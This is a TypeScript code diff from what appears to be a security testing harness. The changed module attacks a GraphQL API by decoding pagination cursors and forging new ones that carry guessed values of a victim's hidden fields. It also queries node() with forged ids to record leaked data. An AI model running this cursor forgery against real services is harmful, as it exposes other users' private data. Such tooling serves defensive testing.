@@ -12,20 +12,18 @@ export const identifier: Family = {
       scene.dump({ text: decoded(text) });
       // a cursor of the attacker's own making, which asks for what comes after a value
       const cursor = (data as Record<string, { pageInfo: { endCursor: string } } | undefined> | null)?.[list]?.pageInfo.endCursor;
-      if (cursor === undefined || scene.targets.length === 0) continue;
-      const [ordering] = JSON.parse(Buffer.from(cursor, 'base64').toString()) as unknown[];
-      const victim = scene.victims[0]!;
+      const parts = cursor === undefined ? [] : (JSON.parse(Buffer.from(cursor, 'base64').toString()) as unknown[]);
+      if (parts.length < 3) continue; // an id alone, which is no secret
       for (const target of scene.targets.slice(0, 2)) {
-        const forged = Buffer.from(JSON.stringify([ordering, victim.guesses.get(target)![0], victim.id])).toString('base64');
-        scene.dump(await scene.ask(`{ ${list}(first: 5, orderBy: [${order}], after: "${forged}", ${among}) { edges { cursor } } }`));
+        const forged = Buffer.from(JSON.stringify([parts[0], scene.victims[0]!.guesses.get(target)![0], ...parts.slice(2)])).toString('base64');
+        scene.dump(await scene.ask(`query ($after: Cursor!) { ${list}(first: 5, orderBy: [${order}], after: $after, ${among}) { edges { cursor } } }`, { after: forged }));
       }
     }
     for (const victim of scene.victims) {
-      for (const id of [`["${scene.names.list}","${victim.id}"]`, `["${type}","${victim.id}"]`, `["api","${scene.relation.view}","${victim.id}"]`]) {
-        const fields = scene.targets.map(({ column }) => scene.names.field(column)).filter((name) => scene.names.fields.has(name)).join(' ');
-        const reply = await scene.ask(`{ node(nodeId: "${Buffer.from(id).toString('base64')}") { nodeId ... on ${type} { id ${fields} } } }`);
-        for (const target of scene.targets) scene.claim(target, victim, reply.text);
-      }
+      const fields = scene.targets.map(({ column }) => scene.names.field(column)).filter((name) => scene.names.fields.has(name)).join(' ');
+      const nodeId = Buffer.from(JSON.stringify([type, victim.id])).toString('base64');
+      const reply = await scene.ask(`query ($nodeId: ID!) { node(nodeId: $nodeId) { nodeId ... on ${type} { id ${fields} } } }`, { nodeId }, scene.targets.length);
+      for (const target of scene.targets) scene.claim(target, victim, decoded(reply.text));
     }
   },
 };
